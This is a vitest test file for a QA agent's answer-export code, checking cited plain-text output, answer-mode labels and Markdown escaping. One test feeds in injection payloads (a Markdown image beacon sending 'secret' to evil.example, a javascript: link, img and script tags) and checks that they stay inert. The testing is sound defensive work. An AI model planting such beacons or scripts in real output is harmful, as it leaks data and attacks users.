import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import type { AgentEvent, Answer } from '../../../src/agent/events.ts';
import { startRun, type RunView } from '../../../src/ui/state.ts';
import { answerAsMarkdown, answerAsText, escapeMarkdown } from '../../../src/ui/text/export.ts';
import { fakeEvidence, fakePassages, scriptFor } from '../../fixtures/fake-searcher.ts';

function finished(question: string, hasLlm: boolean): RunView {
  const step = scriptFor(question, hasLlm).find((item): item is Extract<AgentEvent, { kind: 'answerFinished' }> => item.kind === 'answerFinished');
  return { ...startRun('r', question, false), answer: step?.answer ?? null };
}

const run = finished('On which river is the birthplace of the founder of Vale Glassworks?', true);

describe('an answer as text', () => {
  it('holds question, short answer, sentences with numbers, and sources with their quotes', () => {
    expect(answerAsText(run)).toBe(
      [
        'On which river is the birthplace of the founder of Vale Glassworks?',
        '',
        'The Isk',
        '',
        'Who founded Vale Glassworks? Orrin Vale. [1]',
        'Where was Orrin Vale born? Teshmoor. [2]',
        'On which river does Teshmoor lie? The Isk. [3]',
        'The town was founded by glass-makers. [1] (not carried by the cited quotes)',
        '',
        'Sources',
        '[1] Vale Glassworks: “It was founded in 1871 by Orrin Vale, who had learned to blow glass on barges.”',
        '[2] Orrin Vale: “He was born in Teshmoor, where his mother kept the ferry house.”',
        '[3] Teshmoor, Position: “It lies on the river Isk, a day upstream of the harbour.”',
        '',
      ].join('\n'),
    );
  });

  it('says of extracted sentences that they are no answer, and of memory that nothing can be checked', () => {
    expect(answerAsText(finished('river Teshmoor', false))).toContain('No language model is loaded: these are sentences from the passages, not an answer.');
    expect(answerAsText(finished('from memory', true))).toContain('nothing here can be checked');
    expect(answerAsText(finished('unknown', true))).toContain('does not hold an answer');
  });

  it('is nothing while there is no answer', () => {
    expect(answerAsText(startRun('r', 'q', false))).toBeNull();
    expect(answerAsMarkdown(startRun('r', 'q', false))).toBeNull();
  });
});

describe('an answer as Markdown', () => {
  it('reads as headings, list and numbered sources', async () => {
    const html = await marked.parse(answerAsMarkdown(run) ?? '');
    expect(html).toContain('<strong>The Isk</strong>');
    expect(html.match(/<li>/g)).toHaveLength(7);
    expect(html).toContain('<ol>');
  });

  it('lets nothing of a passage, a title or a model act as markup', async () => {
    const hostile = fakePassages.find((passage) => passage.docId === 'hostile');
    if (hostile === undefined) throw new Error('no hostile passage');
    const answer: Answer = {
      short: '![x](https://evil.example/?q=1) <img src=x>',
      sentences: [{ text: '# heading **bold** [click](javascript:alert(1)) www.evil.example me@evil.example https://evil.example', cites: [1], supported: true }],
      citations: [{ n: 1, evidence: fakeEvidence('hostile', '![beacon](https://evil.example/?q=secret)', 1) }],
      mode: 'cited',
    };
    const html = await marked.parse(answerAsMarkdown({ ...startRun('r', '<script>alert(1)</script>', false), answer }) ?? '');
    expect(html).not.toMatch(/<(?:img|a|script|h1|svg)\b/);
  });

  it('keeps every character as it stands', () => {
    for (const text of ['&lt;b&gt; &amp;amp;', '1. *not* _markup_', '#tag ~~gone~~ a|b', '\\* \\_ `x`']) {
      const html = marked.parse(escapeMarkdown(text), { async: false });
      const shown = html.replace(/<\/?p>|\n/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
      expect(shown).toBe(text);
    }
  });

  it('escapes any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', ' ', '*', '_', '`', '[', ']', '(', ')', '<', '>', '#', '!', '\\', '|', '~', '&', '-', '+', '=', '1', '.', ':', '/', '@', 'w', 'h', 't', 'p', 's') }), (text) => {
        expect(marked.parse(`x ${escapeMarkdown(text)}`, { async: false })).not.toMatch(/<(?!\/?p>)/);
        expect(marked.parse(`- ${escapeMarkdown(text)}`, { async: false })).not.toMatch(/<(?!\/?(?:ul|li)>)/);
      }),
    );
  });
});
